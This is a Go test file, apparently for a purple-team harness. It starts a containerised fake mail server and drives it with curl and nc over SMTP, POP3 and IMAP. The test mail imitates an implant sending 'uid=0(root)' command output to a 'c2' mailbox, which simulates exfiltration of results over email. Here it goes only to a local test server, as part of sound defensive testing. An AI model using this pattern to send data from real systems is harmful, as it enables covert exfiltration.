@@ -1,0 +1,234 @@
+package container
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/purpleharness/purpleharness/fakemail"
+)
+
+func startContainer(t *testing.T) *Servers {
+	t.Helper()
+	if _, err := os.Stat("/var/run/docker.sock"); err != nil {
+		t.Skip("no Docker daemon (/var/run/docker.sock)")
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
+	defer cancel()
+	var log bytes.Buffer
+	s, err := Start(ctx, Options{Ephemeral: true, Log: &log})
+	t.Cleanup(func() {
+		if s == nil {
+			return
+		}
+		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+		defer cancel()
+		if err := s.Shutdown(ctx); err != nil {
+			t.Errorf("Shutdown: %v", err)
+		}
+		// Nothing left behind: no container, no image, no files.
+		out, _ := exec.Command("docker", "ps", "-aq", "--filter", "label=org.purpleharness.role=fakemail").Output()
+		if len(bytes.TrimSpace(out)) != 0 {
+			t.Errorf("containers left behind: %s", out)
+		}
+		if _, err := os.Stat(s.dir); !errors.Is(err, os.ErrNotExist) {
+			t.Errorf("temp dir %s left behind", s.dir)
+		}
+	})
+	if errors.Is(err, ErrNoDocker) {
+		t.Skipf("Docker: %v", err)
+	}
+	if err != nil {
+		t.Fatalf("Start: %v\n%s", err, log.String())
+	}
+	return s
+}
+
+func curl(t *testing.T, stdin string, args ...string) string {
+	t.Helper()
+	path, err := exec.LookPath("curl")
+	if err != nil {
+		t.Skip("curl not installed")
+	}
+	cmd := exec.Command(path, append([]string{"-sS", "--max-time", "15"}, args...)...)
+	cmd.Stdin = strings.NewReader(stdin)
+	var out, errb bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &errb
+	if err := cmd.Run(); err != nil {
+		t.Fatalf("curl %v: %v: %s", args, err, errb.String())
+	}
+	return out.String()
+}
+
+const mail = "From: implant@victim.test\r\nSubject: results\r\n\r\nuid=0(root)\r\n"
+
+// TestContainerRoundTrip is the in-process round trip, against the
+// container: curl sends over SMTP, reads over POP3 (plain and implicit
+// TLS) and IMAP (STARTTLS), nc pipes a POP3 dialogue, and the evidence
+// comes back as fakemail.Session values.
+func TestContainerRoundTrip(t *testing.T) {
+	s := startContainer(t)
+	user := fakemail.DefaultLogin + ":" + fakemail.DefaultPassword
+	curl(t, mail, "smtp://"+s.Addr(fakemail.SMTP), "--mail-from", "implant@victim.test",
+		"--mail-rcpt", fakemail.DefaultAddress, "-T", "-")
+	if got := curl(t, "", "pop3://"+s.Addr(fakemail.POP3)+"/2", "-u", user); got != mail {
+		t.Errorf("pop3 RETR 2 = %q, want %q", got, mail)
+	}
+	if got := curl(t, "", "pop3s://"+s.Addr(fakemail.POP3S)+"/", "-k", "-u", user); strings.Count(got, "\n") != 2 {
+		t.Errorf("pop3s LIST = %q, want 2 messages", got)
+	}
+	if got := curl(t, "", "imap://"+s.Addr(fakemail.IMAP)+"/INBOX;UID=2", "--ssl-reqd", "-k", "-u", user); !strings.Contains(got, "uid=0(root)") {
+		t.Errorf("imap STARTTLS fetch = %q", got)
+	}
+	if got := curl(t, "", "imaps://"+s.Addr(fakemail.IMAPS)+"/INBOX;UID=1", "-k", "-u", user); !strings.Contains(got, "whoami") {
+		t.Errorf("imaps fetch = %q", got)
+	}
+	if nc, err := exec.LookPath("nc"); err == nil {
+		host, port, _ := net.SplitHostPort(s.Addr(fakemail.POP3))
+		cmd := exec.Command(nc, "-N", "-w", "5", host, port)
+		cmd.Stdin = strings.NewReader("USER c2\r\nPASS atomic-red\r\nSTAT\r\nQUIT\r\n")
+		out, err := cmd.Output()
+		if err != nil || !strings.Contains(string(out), "+OK 2 ") {
+			t.Errorf("nc POP3 dialogue: %v\n%s", err, out)
+		}
+	}
+	want := 6
+	var ev []fakemail.Session
+	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
+		if ev = s.Evidence(); len(ev) >= want {
+			break
+		}
+	}
+	if len(ev) != want {
+		t.Fatalf("%d sessions from the container, want %d", len(ev), want)
+	}
+	if ev[0].Service != fakemail.SMTP || len(ev[0].Messages) != 1 || ev[0].Messages[0].Size != int64(len(mail)) {
+		t.Errorf("smtp session: %+v", ev[0])
+	}
+	for _, e := range ev {
+		// Host networking: the server saw the client's own loopback
+		// address and ephemeral port, not a proxy's.
+		if e.Remote.IP != "127.0.0.1" || e.Remote.Port == 0 {
+			t.Errorf("%s session remote %v, want the host client on 127.0.0.1", e.Service, e.Remote)
+		}
+		if e.Ended != fakemail.EndQuit {
+			t.Errorf("%s session ended %s (%s)", e.Service, e.Ended, e.Error)
+		}
+	}
+}
+
+// TestHostNetworkNoProxy checks the claim in the package doc: the
+// listening socket is in the host's network namespace, held by the
+// containerised validate process, and no docker-proxy serves it.
+func TestHostNetworkNoProxy(t *testing.T) {
+	s := startContainer(t)
+	_, portStr, _ := net.SplitHostPort(s.Addr(fakemail.POP3))
+	port, _ := strconv.Atoi(portStr)
+
+	inode := listeningInode(t, port)
+	if inode == "" {
+		t.Fatalf("no LISTEN socket for port %d in the host's /proc/net/tcp", port)
+	}
+	owners := socketOwners(inode)
+	if len(owners) == 0 {
+		t.Fatalf("no process holds socket inode %s", inode)
+	}
+	for _, comm := range owners {
+		if comm != "validate" {
+			t.Errorf("listening socket held by %q, want only the containerised validate", comm)
+		}
+	}
+	for _, comm := range allComms() {
+		if comm == "docker-proxy" {
+			out, _ := exec.Command("ps", "-eo", "pid,args").Output()
+			if bytes.Contains(out, []byte("-host-port "+portStr)) {
+				t.Errorf("a docker-proxy serves port %d", port)
+			}
+		}
+	}
+
+	// A host client connects straight to the server: the server's end
+	// of the connection belongs to validate too.
+	c, err := net.Dial("tcp", s.Addr(fakemail.POP3))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	if line, err := bufio.NewReader(c).ReadString('\n'); err != nil || !strings.HasPrefix(line, "+OK") {
+		t.Fatalf("greeting %q %v", line, err)
+	}
+	local := c.LocalAddr().(*net.TCPAddr)
+	peer := connInode(t, port, local.Port)
+	if owners := socketOwners(peer); len(owners) != 1 || owners[0] != "validate" {
+		t.Errorf("server end of our connection held by %v, want [validate]", owners)
+	}
+}
+
+// listeningInode finds the inode of the socket listening on 127.0.0.1:port.
+func listeningInode(t *testing.T, port int) string {
+	return procTCP(t, func(local, remote string, state string) bool {
+		return state == "0A" && strings.HasSuffix(local, fmt.Sprintf(":%04X", port))
+	})
+}
+
+// connInode finds the server end of the connection from clientPort.
+func connInode(t *testing.T, port, clientPort int) string {
+	return procTCP(t, func(local, remote string, state string) bool {
+		return state == "01" && strings.HasSuffix(local, fmt.Sprintf(":%04X", port)) &&
+			strings.HasSuffix(remote, fmt.Sprintf(":%04X", clientPort))
+	})
+}
+
+func procTCP(t *testing.T, match func(local, remote, state string) bool) string {
+	data, err := os.ReadFile("/proc/net/tcp")
+	if err != nil {
+		t.Skipf("no /proc/net/tcp: %v", err)
+	}
+	for _, line := range strings.Split(string(data), "\n")[1:] {
+		f := strings.Fields(line)
+		if len(f) > 9 && match(f[1], f[2], f[3]) {
+			return f[9]
+		}
+	}
+	return ""
+}
+
+// socketOwners returns the comm of every process with an fd on the inode.
+func socketOwners(inode string) []string {
+	var out []string
+	target := "socket:[" + inode + "]"
+	fds, _ := filepath.Glob("/proc/[0-9]*/fd/*")
+	seen := map[string]bool{}
+	for _, fd := range fds {
+		if l, err := os.Readlink(fd); err == nil && l == target {
+			pid := strings.Split(fd, "/")[2]
+			if seen[pid] {
+				continue
+			}
+			seen[pid] = true
+			comm, _ := os.ReadFile("/proc/" + pid + "/comm")
+			out = append(out, strings.TrimSpace(string(comm)))
+		}
+	}
+	return out
+}
+
+func allComms() []string {
+	var out []string
+	comms, _ := filepath.Glob("/proc/[0-9]*/comm")
+	for _, c := range comms {
+		b, _ := os.ReadFile(c)
+		out = append(out, strings.TrimSpace(string(b)))
+	}
+	return out
+}
